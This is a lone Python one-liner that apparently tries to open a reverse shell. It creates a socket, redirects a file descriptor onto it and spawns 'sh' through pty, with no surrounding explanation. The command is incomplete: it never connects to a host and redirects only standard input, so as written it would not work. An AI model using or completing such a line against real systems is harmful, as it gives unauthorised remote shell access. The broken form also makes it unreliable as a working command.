python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")'
